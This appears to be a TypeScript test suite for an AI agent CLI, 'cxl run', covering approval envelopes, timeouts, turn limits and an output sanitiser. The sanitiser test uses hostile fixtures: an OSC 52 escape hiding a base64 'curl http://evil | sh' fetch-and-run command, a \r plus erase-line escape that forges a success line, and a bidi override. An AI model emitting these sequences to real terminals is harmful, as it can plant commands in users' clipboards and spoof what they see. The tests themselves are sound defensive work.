// `cxl run` as a real child process against a fake OpenAI-compatible server.
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { startFakeOpenAI, type Reply } from '../fixtures/fake_models.ts';
import { runCxl } from '../helpers/cxl.ts';

async function run(script: Reply[], args: string[] = [], env: Record<string, string> = {}) {
  const dir = realpathSync(mkdtempSync(path.join(tmpdir(), 'cxl-run-')));
  writeFileSync(path.join(dir, 'notes.txt'), 'one\ntwo\n');
  const srv = await startFakeOpenAI(script);
  try {
    const r = await runCxl(['run', '--provider', 'openai', '--model', 'm', ...args], {
      cwd: dir,
      env: { HOME: dir, XDG_DATA_HOME: path.join(dir, 'data'), OPENAI_BASE_URL: srv.url, OPENAI_API_KEY: 'k', ...env },
    });
    return { ...r, dir, requests: srv.requests };
  } finally {
    await srv.close();
  }
}

const toolResults = (req: Record<string, unknown>) => ((req.messages ?? []) as Array<{ role: string; content: string }>).filter((m) => m.role === 'tool').map((m) => m.content);

test('the final answer goes to stdout, tool progress to stderr, exit 0', async () => {
  const r = await run([{ text: 'Let me look.', toolCalls: [{ name: 'read_file', arguments: { path: 'notes.txt' } }] }, { text: 'The notes say one and two.' }], ['summarise notes.txt']);
  try {
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'The notes say one and two.\n');
    assert.match(r.stderr, /→ local_fs\.read_file: notes\.txt/);
    assert.match(r.stderr, /✓ local_fs\.read_file: notes\.txt/);
    assert.match(r.stderr, /Let me look\./);
    assert.match(toolResults(r.requests[1])[0], /one\ntwo/);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
});

test('approve counts as deny: a write the envelope would ask about is refused, nothing written', async () => {
  const r = await run([{ toolCalls: [{ name: 'write_file', arguments: { path: 'new.txt', content: 'x' } }] }, { text: 'I could not write it.' }], ['write new.txt']);
  try {
    assert.equal(r.code, 0, r.stderr);
    assert.equal(existsSync(path.join(r.dir, 'new.txt')), false);
    assert.match(toolResults(r.requests[1])[0], /"code":"approval_required"/);
    assert.match(r.stderr, /✗ local_fs\.write_file: new\.txt: approval_required/);
    assert.equal(r.stdout, 'I could not write it.\n');
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
});

test('auto_edit writes the workspace directly, and local_shell runs on this machine', async () => {
  const r = await run(
    [
      { toolCalls: [{ name: 'write_file', arguments: { path: 'out.txt', content: 'written\n' } }] },
      { toolCalls: [{ name: 'local_shell', arguments: { command: 'cat out.txt' } }] },
      { text: 'done' },
    ],
    ['--envelope', 'auto_edit', 'write and show'],
  );
  try {
    // auto_edit asks for shell lines, so cat is refused, but the write went through
    assert.equal(r.code, 0, r.stderr);
    assert.equal(existsSync(path.join(r.dir, 'out.txt')), true);
    assert.match(toolResults(r.requests[2])[1], /approval_required/);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
  const r2 = await run([{ toolCalls: [{ name: 'local_shell', arguments: { command: 'cat notes.txt && echo end' } }] }, { text: 'ok' }], ['show notes']);
  try {
    assert.equal(r2.code, 0, r2.stderr);
    const res = JSON.parse(toolResults(r2.requests[1])[0]);
    assert.equal(res.success, true);
    assert.equal(res.stdout, 'one\ntwo\nend\n');
  } finally {
    rmSync(r2.dir, { recursive: true, force: true });
  }
});

test('--timeout stops the run with exit 124 (durations read as everywhere else: 0m1s is 1 s)', async () => {
  const t0 = Date.now();
  const r = await run([{ text: 'slow', delayMs: 20_000 }], ['--timeout', '0m1s', 'be slow']);
  try {
    assert.equal(r.code, 124, r.stderr);
    assert.match(r.stderr, /--timeout of 0m1s/);
    assert.ok(Date.now() - t0 < 15_000);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
});

test('an unreachable provider exits 1 with how to configure one; no task is a usage error', async () => {
  const r = await run([], ['hello'], { OPENAI_BASE_URL: 'http://127.0.0.1:9/v1' });
  try {
    assert.equal(r.code, 1);
    assert.equal(r.stdout, '');
    assert.match(r.stderr, /No model is reachable/);
    assert.match(r.stderr, /127\.0\.0\.1:9/);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
  const u = await runCxl(['run']);
  assert.equal(u.code, 2);
  assert.match(u.stderr, /give the task/);
  const bad = await runCxl(['run', '--timeout', 'soon', 'x']);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /not a duration/);
  for (const sub of ['run', 'acp']) {
    const env = await runCxl(sub === 'run' ? ['run', '--envelope', 'nope', 'x'] : ['acp', '--envelope', 'nope']);
    assert.equal(env.code, 2, env.stderr);
    assert.match(env.stderr, new RegExp(`cxl ${sub}: no envelope named \`nope\`; envelopes: ask_always, auto_edit, default, read_only, strict`));
  }
});

test('a model stuck in a tool loop exits 1 with max_turn_requests', async () => {
  const r = await run([{ toolCalls: [{ name: 'stat_file', arguments: { path: 'notes.txt' } }] }], ['--max-turns', '2', 'loop']);
  try {
    assert.equal(r.code, 1);
    assert.match(r.stderr, /max_turn_requests/);
    assert.equal(r.requests.length, 2);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
});

test('what cxl run prints passes the sanitiser: an OSC 52 answer and an argument with \\r and \\e[2K reach no terminal raw', async () => {
  const osc52 = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\u0007';
  const r = await run(
    [
      { toolCalls: [{ name: 'read_file', arguments: { path: 'notes.txt\r\u001b[2K✓ all good' } }] },
      { text: `Done.${osc52} Trust me \u202Enoitacol\u202C.` },
    ],
    ['look'],
  );
  try {
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout + r.stderr, /\u001b|\u0007|\r/);
    assert.equal(r.stdout, 'Done. Trust me ⟨U+202E⟩noitacol⟨U+202C⟩.\n');
    assert.match(r.stderr, /notes\.txt✓ all good/);
  } finally {
    rmSync(r.dir, { recursive: true, force: true });
  }
});
